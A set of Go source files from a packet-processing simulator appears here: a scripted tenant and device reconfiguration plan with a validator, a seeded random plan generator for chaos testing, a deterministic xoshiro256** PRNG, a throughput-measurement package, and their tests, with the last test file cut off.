// Plan is a scripted reconfiguration timeline. The zero value is an empty
// plan: armed but inert, it schedules nothing and leaves the trace digest
// byte-identical to an unconfigured run.
type Plan struct {
	Events []Event
}

// Validate checks the plan against the run's shape — initial holds the
// names of the tenants active at construction, latent the admittable pool
// (core.Config.LatentTenants), ndev / nports the device and port counts —
// and then replays the events in application order through per-tenant and
// per-device state machines, rejecting contradictory timelines: admitting
// a tenant whose share is already in the split, evicting an unknown or
// already-evicted tenant, retuning an inactive one, re-admitting an
// evicted one, unplugging an unplugged device. Contradictions are always
// authoring bugs — applied as silent no-ops they would make the plan lie
// about what the run experienced.
func (p *Plan) Validate(initial, latent []string, ndev, nports int) error {
	known := make(map[string]bool, len(initial)+len(latent))
	for _, set := range [][]string{initial, latent} {
		for _, name := range set {
			if name == "" {
				return fmt.Errorf("reconfig: empty tenant name in the run's tenant sets")
			}
			if known[name] {
				return fmt.Errorf("reconfig: tenant name %q appears twice across initial+latent sets", name)
			}
			known[name] = true
		}
	}
	for i, ev := range p.Events {
		if ev.At < 0 {
			return fmt.Errorf("reconfig: event %d (%s) at negative time %v", i, ev.Kind, ev.At)
		}
		switch ev.Kind {
		case TenantAdmit:
			if !known[ev.Tenant] {
				return fmt.Errorf("reconfig: event %d (%s) admits unknown tenant %q", i, ev.Kind, ev.Tenant)
			}
			if ev.Share < 0 {
				return fmt.Errorf("reconfig: event %d (%s) admits %q with negative share %v", i, ev.Kind, ev.Tenant, ev.Share)
			}
		case TenantEvict:
			if !known[ev.Tenant] {
				return fmt.Errorf("reconfig: event %d (%s) evicts unknown tenant %q", i, ev.Kind, ev.Tenant)
			}
		case ShareRetune:
			if !known[ev.Tenant] {
				return fmt.Errorf("reconfig: event %d (%s) retunes unknown tenant %q", i, ev.Kind, ev.Tenant)
			}
			if ev.Share <= 0 {
				return fmt.Errorf("reconfig: event %d (%s) retunes %q to non-positive share %v", i, ev.Kind, ev.Tenant, ev.Share)
			}
		case DeviceUnplug, DevicePlug:
			if ev.Device < 0 || ev.Device >= ndev {
				return fmt.Errorf("reconfig: event %d (%s) targets device %d of %d", i, ev.Kind, ev.Device, ndev)
			}
		case QueueResize:
			if ev.Port < -1 || ev.Port >= nports {
				return fmt.Errorf("reconfig: event %d (%s) targets port %d of %d", i, ev.Kind, ev.Port, nports)
			}
			if ev.Capacity < 1 {
				return fmt.Errorf("reconfig: event %d (%s) resizes to capacity %d (must be >= 1)", i, ev.Kind, ev.Capacity)
			}
		default:
			return fmt.Errorf("reconfig: event %d has unknown kind %d", i, ev.Kind)
		}
	}
	return p.validateTimeline(initial, latent, ndev)
}

// tenantState is the per-tenant lifecycle automaton mirrored from
// core.System's epoch protocol.
type tenantState uint8

const (
	tenantLatent tenantState = iota
	tenantActive
	tenantEvicted
)

// validateTimeline replays events in application order (Sorted: by time,
// ties by plan position) against per-tenant and per-device state.
func (p *Plan) validateTimeline(initial, latent []string, ndev int) error {
	// Sort indices rather than events so error messages cite the event's
	// position in the plan as authored.
	order := make([]int, len(p.Events))
	for i := range order {
		order[i] = i
	}
	sort.SliceStable(order, func(a, b int) bool {
		return p.Events[order[a]].At < p.Events[order[b]].At
	})

	tenants := make(map[string]tenantState, len(initial)+len(latent))
	for _, name := range initial {
		tenants[name] = tenantActive
	}
	for _, name := range latent {
		tenants[name] = tenantLatent
	}
	plugged := make([]bool, ndev)
	for d := range plugged {
		plugged[d] = true
	}

	for _, i := range order {
		ev := p.Events[i]
		switch ev.Kind {
		case TenantAdmit:
			switch tenants[ev.Tenant] {
			case tenantActive:
				return fmt.Errorf("reconfig: event %d (%s) admits tenant %q whose share is already in the split", i, ev.Kind, ev.Tenant)
			case tenantEvicted:
				return fmt.Errorf("reconfig: event %d (%s) re-admits evicted tenant %q (its digest is sealed)", i, ev.Kind, ev.Tenant)
			}
			tenants[ev.Tenant] = tenantActive
		case TenantEvict:
			switch tenants[ev.Tenant] {
			case tenantLatent:
				return fmt.Errorf("reconfig: event %d (%s) evicts tenant %q which was never admitted", i, ev.Kind, ev.Tenant)
			case tenantEvicted:
				return fmt.Errorf("reconfig: event %d (%s) evicts tenant %q twice", i, ev.Kind, ev.Tenant)
			}
			tenants[ev.Tenant] = tenantEvicted
		case ShareRetune:
			if tenants[ev.Tenant] != tenantActive {
				return fmt.Errorf("reconfig: event %d (%s) retunes tenant %q which is not active", i, ev.Kind, ev.Tenant)
			}
		case DeviceUnplug:
			if !plugged[ev.Device] {
				return fmt.Errorf("reconfig: event %d (%s) unplugs device %d which is already unplugged", i, ev.Kind, ev.Device)
			}
			plugged[ev.Device] = false
		case DevicePlug:
			if plugged[ev.Device] {
				return fmt.Errorf("reconfig: event %d (%s) plugs device %d which is already plugged", i, ev.Kind, ev.Device)
			}
			plugged[ev.Device] = true
		}
	}
	return nil
}

// Sorted returns the events ordered by time, ties broken by their position
// in the plan (stable), so epoch order is deterministic regardless of how
// the plan was assembled. Same-tick events serialize: the later one's
// epoch begins when the earlier one's commits.
func (p *Plan) Sorted() []Event {
	out := append([]Event(nil), p.Events...)
	sort.SliceStable(out, func(i, j int) bool { return out[i].At < out[j].At })
	return out
}

// Churn is the canonical churn scenario behind `nbatrace record -reconfig`
// and the bench `reconfig` experiment: the named latent tenant is admitted
// at 1/4 of the span, its share is doubled at 1/2, and it is evicted at
// 3/4 — so one recording exercises admit, retune and evict epochs against
// a steady victim.
func Churn(span simtime.Time, tenant string) *Plan {
	return &Plan{Events: []Event{
		{At: span / 4, Kind: TenantAdmit, Tenant: tenant},
		{At: span / 2, Kind: ShareRetune, Tenant: tenant, Share: 2},
		{At: span * 3 / 4, Kind: TenantEvict, Tenant: tenant},
	}}
}
