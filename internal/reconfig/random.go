package reconfig

import (
	"fmt"

	"nba/internal/rng"
	"nba/internal/simtime"
)

// Profile bounds what RandomPlan may generate. It carries the run shape the
// plan must be valid against and the horizon epochs must begin inside.
type Profile struct {
	// Horizon is the window epoch begin times are placed in (measurement
	// start to end of run). Must be positive.
	Horizon simtime.Time
	// Initial names the tenants active at construction; Latent the
	// admittable pool (core.Config.LatentTenants). Evicts draw from
	// Initial plus already-admitted latents; admits consume Latent.
	Initial, Latent []string
	// Devices / Ports mirror the run topology the plan targets.
	Devices, Ports int
	// QueueCapacity is the configured RX-ring capacity; resizes pick from
	// [max(8, cap/4), 2*cap]. Default 256.
	QueueCapacity int
	// MaxEpochs caps the number of generated epochs. Default 4.
	MaxEpochs int
}

func (p Profile) withDefaults() Profile {
	if p.MaxEpochs <= 0 {
		p.MaxEpochs = 4
	}
	if p.QueueCapacity <= 0 {
		p.QueueCapacity = 256
	}
	return p
}

// timeGrid quantises generated epoch times so plans are stable, diffable
// and shrink to tidy reproducers. It matches the fault generator's grid, so
// same-tick reconfig+fault collisions occur naturally in chaos sweeps.
const timeGrid = 10 * simtime.Microsecond

// RandomPlan generates a valid, bounded reconfiguration plan from the
// seeded rng — the chaos-search input generator for control-plane churn.
// Plans are valid by construction (a per-tenant lifecycle cursor admits
// each latent at most once and evicts each tenant at most once, device
// plug state alternates, epoch times move forward per target), and
// validity is re-checked before returning: a generator bug is a panic, not
// a silently skewed search space.
//
// The same (rng state, profile) always yields the same plan, so a chaos
// case is fully identified by its seed.
func RandomPlan(r *rng.Rand, prof Profile) *Plan {
	prof = prof.withDefaults()
	if prof.Horizon <= 0 {
		panic(fmt.Sprintf("reconfig: RandomPlan horizon %v", prof.Horizon))
	}

	quant := func(t simtime.Time) simtime.Time {
		q := t / timeGrid * timeGrid
		if q < 0 {
			q = 0
		}
		return q
	}

	// Mutable tenant pools: admits move a name latent→active, evicts move
	// it active→gone. Index-addressed slices keep removal deterministic.
	latent := append([]string(nil), prof.Latent...)
	active := append([]string(nil), prof.Initial...)
	// One forward cursor serializes epochs: overlapping epochs defer
	// anyway, so generating them spread out keeps plans readable.
	var cursor simtime.Time
	devPlugged := make([]bool, prof.Devices)
	for d := range devPlugged {
		devPlugged[d] = true
	}
	// next picks the begin time for the next epoch at or after the cursor;
	// ok is false when the horizon has run out of room.
	next := func() (at simtime.Time, ok bool) {
		room := prof.Horizon - cursor
		if room < 4*timeGrid {
			return 0, false
		}
		at = quant(cursor + simtime.Time(r.Float64()*float64(room)*0.5))
		if at < cursor {
			at = cursor
		}
		return at, true
	}
	take := func(pool *[]string) string {
		i := r.Intn(len(*pool))
		name := (*pool)[i]
		*pool = append((*pool)[:i], (*pool)[i+1:]...)
		return name
	}

	plan := &Plan{}
	epochs := 1 + r.Intn(prof.MaxEpochs)
	for e := 0; e < epochs; e++ {
		at, ok := next()
		if !ok {
			break
		}
		// Weighted pick over the epoch kinds the current state supports.
		var kinds []int
		if len(latent) > 0 {
			kinds = append(kinds, 0, 0) // admits weighted up: they unlock evicts
		}
		if len(active) > 1 { // never evict the last tenant
			kinds = append(kinds, 1)
		}
		if len(active) > 0 {
			kinds = append(kinds, 2)
		}
		if prof.Devices > 0 {
			kinds = append(kinds, 3)
		}
		if prof.Ports > 0 {
			kinds = append(kinds, 4)
		}
		if len(kinds) == 0 {
			break
		}
		switch kinds[r.Intn(len(kinds))] {
		case 0: // admit a latent tenant, occasionally with a share override
			name := take(&latent)
			ev := Event{At: at, Kind: TenantAdmit, Tenant: name}
			if r.Bool(0.5) {
				ev.Share = 0.5 + r.Float64()*1.5 // 0.5x .. 2x of a unit share
			}
			plan.Events = append(plan.Events, ev)
			active = append(active, name)
		case 1: // evict an active tenant (keeping at least one running)
			name := take(&active)
			plan.Events = append(plan.Events, Event{At: at, Kind: TenantEvict, Tenant: name})
		case 2: // retune an active tenant's share
			name := active[r.Intn(len(active))]
			share := 0.25 + r.Float64()*2.75 // 0.25x .. 3x
			plan.Events = append(plan.Events, Event{At: at, Kind: ShareRetune, Tenant: name, Share: share})
		case 3: // toggle a device's plug state
			dev := r.Intn(prof.Devices)
			kind := DeviceUnplug
			if !devPlugged[dev] {
				kind = DevicePlug
			}
			devPlugged[dev] = !devPlugged[dev]
			plan.Events = append(plan.Events, Event{At: at, Kind: kind, Device: dev})
		case 4: // resize a port's RX rings (shrink or grow)
			port := r.Intn(prof.Ports)
			if r.Bool(0.25) {
				port = -1 // occasionally re-carve every port
			}
			lo := prof.QueueCapacity / 4
			if lo < 8 {
				lo = 8
			}
			capacity := lo + r.Intn(2*prof.QueueCapacity-lo+1)
			plan.Events = append(plan.Events, Event{At: at, Kind: QueueResize, Port: port, Capacity: capacity})
		}
		cursor = at + timeGrid
	}

	if err := plan.Validate(prof.Initial, prof.Latent, prof.Devices, prof.Ports); err != nil {
		panic(fmt.Sprintf("reconfig: RandomPlan generated an invalid plan: %v", err))
	}
	return plan
}
