package reconfig

import (
	"reflect"
	"strings"
	"testing"

	"nba/internal/rng"
	"nba/internal/simtime"
)

// TestPlanValidate is the table-driven timeline contract, mirroring the
// fault plan's: bounds first, then the per-tenant / per-device lifecycle
// automata replayed in application order.
func TestPlanValidate(t *testing.T) {
	initial := []string{"a", "b"}
	latent := []string{"l1", "l2"}
	const (
		ndev   = 2
		nports = 2
	)
	ms := func(n int) simtime.Time { return simtime.Time(n) * simtime.Millisecond }

	cases := []struct {
		name    string
		events  []Event
		wantErr string // "" = valid
	}{
		{"empty plan", nil, ""},
		{"admit then retune then evict", []Event{
			{At: ms(1), Kind: TenantAdmit, Tenant: "l1"},
			{At: ms(2), Kind: ShareRetune, Tenant: "l1", Share: 2},
			{At: ms(3), Kind: TenantEvict, Tenant: "l1"},
		}, ""},
		{"evict an initial tenant", []Event{
			{At: ms(1), Kind: TenantEvict, Tenant: "a"},
		}, ""},
		{"unplug then replug", []Event{
			{At: ms(1), Kind: DeviceUnplug, Device: 0},
			{At: ms(2), Kind: DevicePlug, Device: 0},
		}, ""},
		{"resize every port", []Event{
			{At: ms(1), Kind: QueueResize, Port: -1, Capacity: 64},
		}, ""},
		{"out-of-order authoring is applied by time", []Event{
			{At: ms(3), Kind: TenantEvict, Tenant: "l1"},
			{At: ms(1), Kind: TenantAdmit, Tenant: "l1"},
		}, ""},

		{"negative time", []Event{
			{At: -ms(1), Kind: TenantEvict, Tenant: "a"},
		}, "negative time"},
		{"unknown tenant", []Event{
			{At: ms(1), Kind: TenantAdmit, Tenant: "ghost"},
		}, "unknown tenant"},
		{"admit of active tenant", []Event{
			{At: ms(1), Kind: TenantAdmit, Tenant: "a"},
		}, "already in the split"},
		{"double admit", []Event{
			{At: ms(1), Kind: TenantAdmit, Tenant: "l1"},
			{At: ms(2), Kind: TenantAdmit, Tenant: "l1"},
		}, "already in the split"},
		{"re-admit after evict", []Event{
			{At: ms(1), Kind: TenantAdmit, Tenant: "l1"},
			{At: ms(2), Kind: TenantEvict, Tenant: "l1"},
			{At: ms(3), Kind: TenantAdmit, Tenant: "l1"},
		}, "re-admits evicted tenant"},
		{"evict of never-admitted latent", []Event{
			{At: ms(1), Kind: TenantEvict, Tenant: "l2"},
		}, "never admitted"},
		{"double evict", []Event{
			{At: ms(1), Kind: TenantEvict, Tenant: "a"},
			{At: ms(2), Kind: TenantEvict, Tenant: "a"},
		}, "twice"},
		{"retune of evicted tenant", []Event{
			{At: ms(1), Kind: TenantEvict, Tenant: "a"},
			{At: ms(2), Kind: ShareRetune, Tenant: "a", Share: 2},
		}, "not active"},
		{"retune of latent tenant", []Event{
			{At: ms(1), Kind: ShareRetune, Tenant: "l1", Share: 2},
		}, "not active"},
		{"non-positive retune share", []Event{
			{At: ms(1), Kind: ShareRetune, Tenant: "a", Share: 0},
		}, "non-positive share"},
		{"negative admit share", []Event{
			{At: ms(1), Kind: TenantAdmit, Tenant: "l1", Share: -1},
		}, "negative share"},
		{"device out of range", []Event{
			{At: ms(1), Kind: DeviceUnplug, Device: 2},
		}, "targets device"},
		{"double unplug", []Event{
			{At: ms(1), Kind: DeviceUnplug, Device: 1},
			{At: ms(2), Kind: DeviceUnplug, Device: 1},
		}, "already unplugged"},
		{"plug of plugged device", []Event{
			{At: ms(1), Kind: DevicePlug, Device: 0},
		}, "already plugged"},
		{"port out of range", []Event{
			{At: ms(1), Kind: QueueResize, Port: 2, Capacity: 64},
		}, "targets port"},
		{"zero capacity", []Event{
			{At: ms(1), Kind: QueueResize, Port: 0, Capacity: 0},
		}, "capacity"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			p := &Plan{Events: tc.events}
			err := p.Validate(initial, latent, ndev, nports)
			if tc.wantErr == "" {
				if err != nil {
					t.Fatalf("valid plan rejected: %v", err)
				}
				return
			}
			if err == nil {
				t.Fatalf("invalid plan accepted (want error containing %q)", tc.wantErr)
			}
			if !strings.Contains(err.Error(), tc.wantErr) {
				t.Fatalf("error %q does not mention %q", err, tc.wantErr)
			}
		})
	}

	// Duplicate names across the initial+latent sets are a run-shape bug.
	if err := (&Plan{}).Validate([]string{"a"}, []string{"a"}, 1, 1); err == nil {
		t.Error("duplicate tenant name across initial+latent accepted")
	}
}

// TestSortedIsStable pins the same-tick tie-break to plan position.
func TestSortedIsStable(t *testing.T) {
	p := &Plan{Events: []Event{
		{At: 2 * simtime.Millisecond, Kind: ShareRetune, Tenant: "a", Share: 1},
		{At: simtime.Millisecond, Kind: ShareRetune, Tenant: "b", Share: 2},
		{At: 2 * simtime.Millisecond, Kind: ShareRetune, Tenant: "c", Share: 3},
	}}
	got := p.Sorted()
	if got[0].Tenant != "b" || got[1].Tenant != "a" || got[2].Tenant != "c" {
		t.Errorf("Sorted order %v, want b, a, c (time, then plan position)", got)
	}
	// Sorted must not mutate the authored plan.
	if p.Events[0].Tenant != "a" {
		t.Error("Sorted mutated the plan")
	}
}

// TestChurnIsValid pins the canonical scenario against its intended shape.
func TestChurnIsValid(t *testing.T) {
	span := 8 * simtime.Millisecond
	p := Churn(span, "churn")
	if err := p.Validate([]string{"victim"}, []string{"churn"}, 1, 2); err != nil {
		t.Fatalf("Churn plan invalid: %v", err)
	}
	if len(p.Events) != 3 || p.Events[0].Kind != TenantAdmit ||
		p.Events[1].Kind != ShareRetune || p.Events[2].Kind != TenantEvict {
		t.Errorf("Churn shape wrong: %+v", p.Events)
	}
	if p.Events[0].At != span/4 || p.Events[2].At != span*3/4 {
		t.Errorf("Churn times wrong: %+v", p.Events)
	}
}

// TestKindStringRoundTrip pins the reproducer-file encoding of every kind.
func TestKindStringRoundTrip(t *testing.T) {
	for k := Kind(0); k < numKinds; k++ {
		got, err := KindFromString(k.String())
		if err != nil || got != k {
			t.Errorf("kind %d round-trip: got %d, err %v", k, got, err)
		}
	}
	if _, err := KindFromString("bogus"); err == nil {
		t.Error("KindFromString accepted an unknown name")
	}
}

// TestRandomPlanValidAndDeterministic: every seed yields a plan that (a)
// passes Validate against its profile (RandomPlan re-checks and panics, so
// this is belt-and-braces at the API boundary), and (b) reproduces exactly
// from the same seed — a chaos case is fully identified by its seed.
func TestRandomPlanValidAndDeterministic(t *testing.T) {
	prof := Profile{
		Horizon: 3 * simtime.Millisecond,
		Initial: []string{"a", "b"},
		Latent:  []string{"l1", "l2"},
		Devices: 1,
		Ports:   2,
	}
	var nonEmpty int
	for seed := int64(1); seed <= 200; seed++ {
		p := RandomPlan(rng.New(uint64(seed)), prof)
		if err := p.Validate(prof.Initial, prof.Latent, prof.Devices, prof.Ports); err != nil {
			t.Fatalf("seed %d: invalid plan: %v", seed, err)
		}
		q := RandomPlan(rng.New(uint64(seed)), prof)
		if !reflect.DeepEqual(p, q) {
			t.Fatalf("seed %d: plan not reproducible:\n%+v\n%+v", seed, p, q)
		}
		if len(p.Events) > 0 {
			nonEmpty++
		}
		for _, ev := range p.Events {
			if ev.At < 0 || ev.At >= prof.Horizon {
				t.Fatalf("seed %d: event outside horizon: %+v", seed, ev)
			}
			if ev.At%timeGrid != 0 {
				t.Fatalf("seed %d: event off the time grid: %+v", seed, ev)
			}
		}
	}
	if nonEmpty < 150 {
		t.Errorf("only %d/200 seeds produced events; the generator is too timid", nonEmpty)
	}
}
