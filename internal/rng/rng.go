// Package rng provides a small, fast, fully deterministic PRNG
// (SplitMix64-seeded xoshiro256**). The simulation must be bit-reproducible
// across Go releases and platforms, so it does not rely on math/rand's
// unspecified algorithm.
package rng

// Rand is a xoshiro256** generator.
type Rand struct {
	s [4]uint64
}

// New returns a generator seeded from seed via SplitMix64.
func New(seed uint64) *Rand {
	r := &Rand{}
	sm := seed
	next := func() uint64 {
		sm += 0x9E3779B97F4A7C15
		z := sm
		z = (z ^ (z >> 30)) * 0xBF58476D1CE4E5B9
		z = (z ^ (z >> 27)) * 0x94D049BB133111EB
		return z ^ (z >> 31)
	}
	for i := range r.s {
		r.s[i] = next()
	}
	// xoshiro must not be seeded all-zero; SplitMix64 never yields four
	// zeros in a row, but guard anyway.
	if r.s[0]|r.s[1]|r.s[2]|r.s[3] == 0 {
		r.s[0] = 1
	}
	return r
}

func rotl(x uint64, k uint) uint64 { return (x << k) | (x >> (64 - k)) }

// Uint64 returns the next 64 random bits.
func (r *Rand) Uint64() uint64 {
	result := rotl(r.s[1]*5, 7) * 9
	t := r.s[1] << 17
	r.s[2] ^= r.s[0]
	r.s[3] ^= r.s[1]
	r.s[1] ^= r.s[2]
	r.s[0] ^= r.s[3]
	r.s[2] ^= t
	r.s[3] = rotl(r.s[3], 45)
	return result
}

// Uint32 returns 32 random bits.
func (r *Rand) Uint32() uint32 { return uint32(r.Uint64() >> 32) }

// Intn returns a uniform int in [0, n). It panics if n <= 0.
func (r *Rand) Intn(n int) int {
	if n <= 0 {
		panic("rng: Intn with non-positive n")
	}
	return int(r.Uint64() % uint64(n))
}

// Float64 returns a uniform float64 in [0, 1).
func (r *Rand) Float64() float64 {
	return float64(r.Uint64()>>11) / (1 << 53)
}

// Bool returns true with probability p.
func (r *Rand) Bool(p float64) bool { return r.Float64() < p }
