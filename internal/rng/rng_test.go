package rng

import (
	"math"
	"testing"
)

func TestDeterminism(t *testing.T) {
	a, b := New(42), New(42)
	for i := 0; i < 1000; i++ {
		if a.Uint64() != b.Uint64() {
			t.Fatal("same seed diverged")
		}
	}
	c := New(43)
	same := 0
	a = New(42)
	for i := 0; i < 1000; i++ {
		if a.Uint64() == c.Uint64() {
			same++
		}
	}
	if same > 2 {
		t.Errorf("different seeds coincided %d times", same)
	}
}

func TestFloat64Range(t *testing.T) {
	r := New(7)
	var sum float64
	for i := 0; i < 100000; i++ {
		v := r.Float64()
		if v < 0 || v >= 1 {
			t.Fatalf("Float64 out of range: %v", v)
		}
		sum += v
	}
	if mean := sum / 100000; math.Abs(mean-0.5) > 0.01 {
		t.Errorf("mean = %v, want ~0.5", mean)
	}
}

func TestIntnUniform(t *testing.T) {
	r := New(9)
	counts := make([]int, 10)
	for i := 0; i < 100000; i++ {
		counts[r.Intn(10)]++
	}
	for d, c := range counts {
		if c < 9000 || c > 11000 {
			t.Errorf("digit %d count %d, want ~10000", d, c)
		}
	}
}

func TestIntnPanics(t *testing.T) {
	defer func() {
		if recover() == nil {
			t.Error("Intn(0) did not panic")
		}
	}()
	New(1).Intn(0)
}

func TestBoolProbability(t *testing.T) {
	r := New(11)
	hits := 0
	for i := 0; i < 100000; i++ {
		if r.Bool(0.3) {
			hits++
		}
	}
	if hits < 29000 || hits > 31000 {
		t.Errorf("Bool(0.3) hit %d of 100000", hits)
	}
}

func BenchmarkUint64(b *testing.B) {
	r := New(1)
	for i := 0; i < b.N; i++ {
		r.Uint64()
	}
}
