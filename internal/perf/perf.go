// Package perf measures the repository's performance trajectory: how fast
// the simulator simulates. It runs a pinned workload — a chaos sweep plus a
// figure-style spec grid, both fixed by construction — at parallelism 1 and
// at a parallel worker count, and records wall-clock seconds, simulated
// seconds per wall second (the headline metric), executed cases per second,
// allocations per case and peak live goroutines into a schema-versioned
// snapshot (BENCH_<date>.json at the repository root). scripts/perf_gate.sh
// compares a fresh snapshot against the committed baseline and fails on a
// sim-seconds-per-second regression beyond tolerance.
//
// perf is deliberately NOT a simulation package for nbalint purposes: it
// measures the host (wall clock, goroutine counts, allocation counters), so
// it may use time.Now and background samplers. Nothing here feeds back into
// any simulation — the measured runs stay pure functions of (config, seed,
// plan), which is why the snapshot's digests-equal property holds at any
// parallelism.
package perf

import (
	"encoding/json"
	"fmt"
	"os"
	"runtime"
	"time"

	"nba/internal/bench"
	"nba/internal/chaos"
	"nba/internal/par"
	"nba/internal/simtime"
)

// Schema is the snapshot format version. Bump it when Result fields change
// meaning; the gate refuses to compare snapshots across schema versions.
const Schema = 1

// Result is one measured workload at one parallelism.
type Result struct {
	// Name identifies the workload ("chaos-sweep" or "figure-grid").
	Name string `json:"name"`
	// Parallelism is the worker count the workload ran at.
	Parallelism int `json:"parallelism"`
	// WallS is the workload's wall-clock duration in seconds.
	WallS float64 `json:"wall_s"`
	// SimS is the virtual time simulated, in seconds.
	SimS float64 `json:"sim_s"`
	// SimSPerS is the headline metric: simulated seconds per wall second.
	SimSPerS float64 `json:"sim_s_per_s"`
	// Cases is the number of independent simulation runs executed.
	Cases int `json:"cases"`
	// CasesPerS is Cases / WallS.
	CasesPerS float64 `json:"cases_per_s"`
	// AllocsPerCase is the heap allocation count per executed case.
	AllocsPerCase uint64 `json:"allocs_per_case"`
	// PeakGoroutines is the highest live goroutine count sampled during the
	// workload (1 ms sampling; a lower bound on the true peak).
	PeakGoroutines int `json:"peak_goroutines"`
	// Digest fingerprints the workload's behaviour (chaos combined digest;
	// empty for workloads without one). Equal digests across parallelism rows
	// are the determinism contract made visible in the snapshot.
	Digest string `json:"digest,omitempty"`
}

// Snapshot is one BENCH_<date>.json file.
type Snapshot struct {
	Schema     int      `json:"schema"`
	Date       string   `json:"date"`
	Go         string   `json:"go"`
	GOMAXPROCS int      `json:"gomaxprocs"`
	Seed       uint64   `json:"seed"`
	Quick      bool     `json:"quick"`
	Results    []Result `json:"results"`
}

// MeasureOptions tunes a measurement.
type MeasureOptions struct {
	// Seed drives the workloads' randomness (default 42).
	Seed uint64
	// Quick shrinks the workloads for smoke runs and the CI gate.
	Quick bool
	// Parallelism is the parallel arm's worker count; <= 0 picks
	// max(2, GOMAXPROCS) so the parallel code path is exercised even on a
	// single-core host (concurrency without parallelism).
	Parallelism int
}

func (o MeasureOptions) norm() MeasureOptions {
	if o.Seed == 0 {
		o.Seed = 42
	}
	if o.Parallelism <= 0 {
		o.Parallelism = runtime.GOMAXPROCS(0)
		if o.Parallelism < 2 {
			o.Parallelism = 2
		}
	}
	return o
}

// workload is one pinned measurement subject. run executes every case at the
// given worker count and returns (executed cases, simulated virtual time,
// behaviour digest).
type workload struct {
	name string
	run  func(workers int) (int, simtime.Time, string, error)
}

// workloads returns the pinned subjects. The shapes are part of the
// trajectory's identity: changing them invalidates baseline comparability,
// so change them together with a baseline refresh (DESIGN.md §13).
func workloads(o MeasureOptions) []workload {
	seeds := 2
	gridDur := 8 * simtime.Millisecond
	if o.Quick {
		seeds = 1
		gridDur = 4 * simtime.Millisecond
	}
	return []workload{
		{name: "chaos-sweep", run: func(workers int) (int, simtime.Time, string, error) {
			res, err := chaos.Sweep(chaos.SweepOptions{
				Seeds:       seeds,
				BaseSeed:    o.Seed,
				Parallelism: workers,
			})
			if err != nil {
				return 0, 0, "", err
			}
			// Every case runs twice (determinism cross-check), so the
			// executed-run count is 2x the case count.
			runs := 2 * res.Cases
			return runs, simtime.Time(runs) * chaos.CaseHorizon(), res.Digest, nil
		}},
		{name: "figure-grid", run: func(workers int) (int, simtime.Time, string, error) {
			specs := gridSpecs(o.Seed, gridDur)
			bench.ResetSimSeconds()
			_, err := par.MapErr(len(specs), workers, func(i int) (struct{}, error) {
				_, err := bench.Execute(specs[i])
				return struct{}{}, err
			})
			if err != nil {
				return 0, 0, "", err
			}
			simS := simtime.Time(bench.SimSeconds() * float64(simtime.Second))
			return len(specs), simS, "", nil
		}},
	}
}

// gridSpecs is the pinned figure-style grid: every app family at two frame
// sizes, CPU-side, short fixed horizons.
func gridSpecs(seed uint64, dur simtime.Time) []bench.RunSpec {
	var specs []bench.RunSpec
	for _, app := range []string{"ipv4", "ipv6", "ipsec", "ids"} {
		for _, size := range []int{64, 1024} {
			specs = append(specs, bench.RunSpec{
				App: app, LB: "cpu", Size: size, OfferedBps: 10e9,
				Warmup: simtime.Millisecond, Duration: dur, Seed: seed,
			})
		}
	}
	return specs
}

// Measure runs every pinned workload at parallelism 1 and at the parallel
// arm and returns the snapshot (not yet written anywhere).
func Measure(o MeasureOptions) (*Snapshot, error) {
	o = o.norm()
	snap := &Snapshot{
		Schema:     Schema,
		Date:       time.Now().UTC().Format("2006-01-02"),
		Go:         runtime.Version(),
		GOMAXPROCS: runtime.GOMAXPROCS(0),
		Seed:       o.Seed,
		Quick:      o.Quick,
	}
	for _, wl := range workloads(o) {
		// Warm the process-wide caches (FIBs, IDS automata, generator address
		// lists) with one unrecorded pass, so the first measured arm does not
		// pay one-time build costs the later arm then skips.
		if _, _, _, err := wl.run(o.Parallelism); err != nil {
			return nil, fmt.Errorf("perf: %s (warmup): %w", wl.name, err)
		}
		for _, workers := range []int{1, o.Parallelism} {
			r, err := measureOne(wl, workers)
			if err != nil {
				return nil, fmt.Errorf("perf: %s (parallelism %d): %w", wl.name, workers, err)
			}
			snap.Results = append(snap.Results, r)
		}
	}
	return snap, nil
}

// measureOne runs one workload at one worker count under the samplers.
func measureOne(wl workload, workers int) (Result, error) {
	var before, after runtime.MemStats
	sampler := startGoroutineSampler()
	runtime.ReadMemStats(&before)
	start := time.Now()
	cases, simS, digest, err := wl.run(workers)
	wall := time.Since(start)
	runtime.ReadMemStats(&after)
	peak := sampler.stop()
	if err != nil {
		return Result{}, err
	}
	r := Result{
		Name:           wl.name,
		Parallelism:    workers,
		WallS:          wall.Seconds(),
		SimS:           simS.Seconds(),
		Cases:          cases,
		PeakGoroutines: peak,
		Digest:         digest,
	}
	if r.WallS > 0 {
		r.SimSPerS = r.SimS / r.WallS
		r.CasesPerS = float64(r.Cases) / r.WallS
	}
	if cases > 0 {
		r.AllocsPerCase = (after.Mallocs - before.Mallocs) / uint64(cases)
	}
	return r, nil
}

// goroutineSampler polls the live goroutine count in the background while a
// workload runs. Host measurement only — it never touches simulation state.
type goroutineSampler struct {
	quit chan struct{}
	done chan int
}

func startGoroutineSampler() *goroutineSampler {
	s := &goroutineSampler{quit: make(chan struct{}), done: make(chan int)}
	go func() {
		peak := runtime.NumGoroutine()
		tick := time.NewTicker(time.Millisecond)
		defer tick.Stop()
		for {
			select {
			case <-s.quit:
				s.done <- peak
				return
			case <-tick.C:
				if n := runtime.NumGoroutine(); n > peak {
					peak = n
				}
			}
		}
	}()
	return s
}

func (s *goroutineSampler) stop() int {
	close(s.quit)
	return <-s.done
}

// WriteFile writes the snapshot as indented JSON.
func (s *Snapshot) WriteFile(path string) error {
	data, err := json.MarshalIndent(s, "", "  ")
	if err != nil {
		return err
	}
	return os.WriteFile(path, append(data, '\n'), 0o644)
}

// ReadFile loads a snapshot.
func ReadFile(path string) (*Snapshot, error) {
	data, err := os.ReadFile(path)
	if err != nil {
		return nil, err
	}
	var s Snapshot
	if err := json.Unmarshal(data, &s); err != nil {
		return nil, fmt.Errorf("perf: %s: %w", path, err)
	}
	return &s, nil
}
