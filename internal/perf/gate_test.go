package perf

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// gateRepo builds a throwaway git repo containing only scripts/perf_gate.sh
// and whatever BENCH snapshots a test plants, so baseline selection can be
// exercised without measuring anything.
func gateRepo(t *testing.T) string {
	t.Helper()
	for _, bin := range []string{"git", "bash"} {
		if _, err := exec.LookPath(bin); err != nil {
			t.Skipf("%s not available", bin)
		}
	}
	dir := t.TempDir()
	script, err := os.ReadFile(filepath.Join("..", "..", "scripts", "perf_gate.sh"))
	if err != nil {
		t.Fatalf("read perf_gate.sh: %v", err)
	}
